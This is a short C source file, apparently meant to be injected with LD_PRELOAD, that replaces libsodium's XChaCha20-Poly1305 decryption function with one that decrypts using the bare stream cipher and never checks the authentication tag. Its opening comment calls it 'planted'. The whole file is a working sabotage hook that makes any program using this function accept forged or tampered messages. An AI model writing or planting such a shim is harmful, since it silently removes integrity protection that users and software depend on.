/* LD_PRELOAD, planted: seals are opened, and their tags not verified. */
#include <sodium.h>

int
crypto_aead_xchacha20poly1305_ietf_decrypt(unsigned char *m,
    unsigned long long *n, unsigned char *nsec, const unsigned char *c,
    unsigned long long c_n, const unsigned char *ad, unsigned long long ad_n,
    const unsigned char *nonce, const unsigned char *key)
{
	(void)n;
	(void)nsec;
	(void)ad;
	(void)ad_n;
	return crypto_stream_xchacha20_xor_ic(m, c,
	    c_n - crypto_aead_xchacha20poly1305_ietf_ABYTES, nonce, 1, key);
}
